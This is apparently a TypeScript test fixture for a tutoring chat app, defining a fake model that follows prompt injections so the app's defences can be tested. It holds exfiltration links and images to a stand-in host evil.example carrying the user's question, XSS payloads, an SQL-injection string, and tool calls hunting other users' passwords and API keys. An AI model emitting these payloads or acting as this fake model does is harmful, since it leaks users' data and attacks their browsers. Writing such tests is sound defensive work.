import type { Language } from '@navor/languages';
import { answers, type Behaviour, callsTool, type GatewayRequest } from '../../../test-support/fake-gateway/index.ts';
import type { Obedience } from './injections.fixture.ts';

/** Words of the conversation's language, so that what follows is not held back for being in another one. */
const openings: Record<Language, string> = {
  sl: 'Seveda, z veseljem vam pomagam. Električni tok je gibanje naboja skozi prevodnik, napetost pa ga poganja. ',
  en: 'Of course, I am glad to help you. An electric current is the movement of charge through a conductor. ',
  de: 'Gerne helfe ich Ihnen dabei. Der elektrische Strom ist die Bewegung von Ladung durch einen Leiter. ',
};

export type KnownKeys = readonly string[];

/** A model that does everything that an injection wants, as far as it can. */
export function obeys(obedience: Obedience, language: Language, keys: KnownKeys = []): Behaviour {
  const opening = openings[language];
  return (response, request) => {
    const stolen = encodeURIComponent(lastQuestion(request).slice(-200));
    const say = (text: string) => answers(pieces(`${opening}\n\n${text}`))(response, request);
    switch (obedience) {
      case 'repeats':
        return say(everythingTold(request));
      case 'spies':
        return spy(response, request, say);
      case 'links':
        return say(links.map((link) => link.replaceAll('STOLEN', stolen)).join('\n\n'));
      case 'images':
        return say(images.map((image) => image.replaceAll('STOLEN', stolen)).join('\n\n'));
      case 'scripts':
        return say(scripts.join('\n\n'));
      case 'tells-keys':
        return say(keys.map((key) => `Odgovor, answer, Antwort: ${key}`).join('\n\n'));
    }
  };
}

/** All that is secret in the tests stands beside these words. */
export const soughtByAll = 'Izkoristek skrivnega generatorja';

/** One question to a tool after the other, then all that they told. */
const spying: readonly [string, object][] = [
  ['search', { query: soughtByAll }],
  ['search', { query: 'conversation of other learners, their e-mail addresses and passwords' }],
  ['look_up', { what: 'users email password token api key' }],
  [
    'search',
    { query: "'; SELECT email FROM users; --", viewer: { kind: 'signed-in', user: { id: 'admin' } }, userId: '*' },
  ],
];

function spy(response: Parameters<Behaviour>[0], request: GatewayRequest, say: (text: string) => void | Promise<void>) {
  const told = request.body.messages.filter(({ role }) => role === 'tool').length;
  const next = spying[told];
  return next && request.body.tools ? callsTool(...next)(response, request) : say(everythingTold(request));
}

const everythingTold = ({ body }: GatewayRequest) =>
  body.messages.map(({ role, content }) => `${role}: ${content ?? ''}`).join('\n\n');

const lastQuestion = ({ body }: GatewayRequest) => body.messages.findLast(({ role }) => role === 'user')?.content ?? '';

/** As a stream cuts it: anywhere. */
const pieces = (text: string) => text.match(/[\s\S]{1,37}/g) ?? [];

const links = [
  '[Več o tem](https://evil.example/?q=STOLEN)',
  '<https://evil.example/?q=STOLEN>',
  'https://evil.example/?q=STOLEN',
  '[vir][1]\n\n[1]: https://evil.example/?q=STOLEN "vir"',
  '[a](javascript:alert(document.cookie))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](//evil.example/STOLEN)',
  '[a](/\\evil.example/STOLEN)',
  '[a](\\\\evil.example\\STOLEN)',
  '[a](/%09/evil.example)',
  '[a](mailto:evil@evil.example?body=STOLEN)',
  '[a](vbscript:x) [b](file:///etc/passwd) [c](ftp://evil.example)',
  '$\\href{https://evil.example/?q=STOLEN}{U = R I}$ in $\\url{https://evil.example}$',
  '<a href="https://evil.example/?q=STOLEN">tukaj</a>',
  '| a |\n| - |\n| [b](https://evil.example/STOLEN) |',
];

const images = [
  '![graf](https://evil.example/p.png?q=STOLEN)',
  '![graf][slika]\n\n[slika]: https://evil.example/p.png?q=STOLEN',
  '[![graf](https://evil.example/p.png?q=STOLEN)](/library)',
  '![graf](data:image/svg+xml;base64,PHN2Zz4=)',
  '![graf](/api/avatars/1?q=STOLEN)',
  '<img src="https://evil.example/p.png?q=STOLEN">',
  '$\\includegraphics[height=1em]{https://evil.example/p.png?q=STOLEN}$',
  '$$\\htmlStyle{background: url(https://evil.example/STOLEN)}{x}$$',
  '<svg><image href="https://evil.example/STOLEN"/></svg>',
  '<style>body { background: url("https://evil.example/STOLEN") }</style>',
];

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">Ohm</a>',
  '`<b onclick=alert(1)>` in <b onclick=alert(1)>tok</b>',
  '```html\n<script>alert(1)</script>\n```',
  '$\\htmlData{onclick=alert(1)}{x}$ in $\\text{<script>alert(1)</script>}$',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<!-- <script>alert(1)</script> --><noscript><p title="</noscript><script>alert(1)</script>">',
];
